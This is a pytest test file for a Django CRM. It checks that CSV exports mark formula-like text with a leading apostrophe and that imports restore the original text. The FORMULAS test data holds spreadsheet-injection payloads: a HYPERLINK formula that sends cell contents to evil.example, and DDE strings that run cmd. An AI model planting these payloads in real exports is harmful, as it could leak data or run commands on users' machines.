"""Files opened in a spreadsheet never run a formula someone typed into a name.

The list's download, the admin's export and the statistics' tables mark a
text that starts like a formula; export_data marks it too and import_data
takes the mark off, so a backup restores every text exactly.
"""

import csv
import io

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse

from contacts.models import Contact, Salesperson
from crm.dataio import Problems
from crm.reports.tables import Column, Table
from crm.spreadsheets import csv_text, escape_text, spreadsheet_cell, unescape_text
from tests.crm.dataio.importing import run
from tests.factories import (
    CompanyFactory,
    OpportunityFactory,
    SalespersonFactory,
    cycle_with_stages,
)

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Texts a backup must restore exactly, the marked ones and their look-alikes.
# (Not a lone carriage return: export_data ends lines with "\n" alone, so
# Python's csv writer leaves a "\r" unquoted and the reader splits the row there.)
TEXTS = [
    *(text for text in FORMULAS if "\r" not in text),
    "'=already marked",
    "'quoted",
    "''",
    "'",
    "plain",
    "a=b",
]


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_a_leading_apostrophe(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "a=b", "", 5, -5, None])
def test_other_texts_and_numbers_are_left_alone(value):
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("text", TEXTS)
def test_a_marked_text_reads_back_as_it_was(text):
    assert unescape_text(escape_text(text)) == text


@pytest.fixture
def planted(manager):
    """A manager's opportunity with a contact and description a rep made hostile."""
    contact = CompanyFactory(name=FORMULAS[0])
    return OpportunityFactory(
        in_progress=True,
        contact=contact,
        description="@SUM(1+1)",
        salesperson=Salesperson.objects.get(user=manager),
        sales_cycle=cycle_with_stages(),
    )


def test_the_list_download_marks_formulas(client, manager, planted):
    client.force_login(manager)

    response = client.get(reverse("opportunities:list"), {"format": "csv"})

    header, row = rows_of(response)
    record = dict(zip(header, row, strict=True))
    assert record["Contact name"] == "'" + FORMULAS[0]
    assert record["Description"] == "'@SUM(1+1)"
    assert record["Estimated value"] == "1000.00"  # numbers stay numbers


def test_the_admin_export_marks_formulas(client, manager, planted):
    client.force_login(manager)

    response = client.post(
        reverse("admin:opportunities_opportunity_changelist"),
        {"action": "export_csv", ACTION_CHECKBOX_NAME: [planted.pk]},
    )

    assert "'" + FORMULAS[0] in rows_of(response)[1]


def test_the_statistics_tables_mark_formulas(client, manager):
    # A code is free text too: a row label starts with it.
    OpportunityFactory(salesperson=SalespersonFactory(code="@SUM(1+1)", name="X"))
    client.force_login(manager)

    response = client.get(reverse("statistics:salespeople"), {"csv": "salespeople"})

    labels = [row[0] for row in rows_of(response)[1:]]
    assert labels == ["'@SUM(1+1) X", "Total"]


def test_a_tables_numbers_stay_numbers_and_only_its_text_is_marked():
    table = Table("t", "T", [Column("Name"), Column("Change", "number")])
    table.add("-5 days", -5)

    assert [csv_text(value) for value in list(table.values())[1]] == [
        "'-5 days",
        "-5",
    ]


def test_export_data_marks_formulas_and_import_data_restores_them(tmp_path):
    salesperson = Salesperson.objects.create(code="AH", name="Anna")
    for number, text in enumerate(TEXTS):
        Contact.objects.create(
            number=f"C{number}", type="company", name=text, salesperson=salesperson
        )
    path = tmp_path / "contacts.csv"

    status, _out, err = run("export_data", "contacts", path)
    assert status == 0, err
    written = {row[0]: row[2] for row in csv.reader(path.open(newline=""))}
    assert written["C0"] == "'" + FORMULAS[0]

    Contact.objects.update(name="changed")
    status, out, err = run("import_data", "contacts", path)

    assert status == 0, err
    restored = dict(Contact.objects.values_list("number", "name"))
    assert restored == {f"C{n}": text for n, text in enumerate(TEXTS)}


def test_the_import_problems_file_marks_formulas(tmp_path):
    problems = Problems("data.csv")
    problems.error(2, "=cmd", "“=1+1” is not a number.")
    path = tmp_path / "errors.csv"

    problems.write_csv(str(path))

    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))
    assert rows[1] == ["data.csv", "2", "'=cmd", "“=1+1” is not a number."]
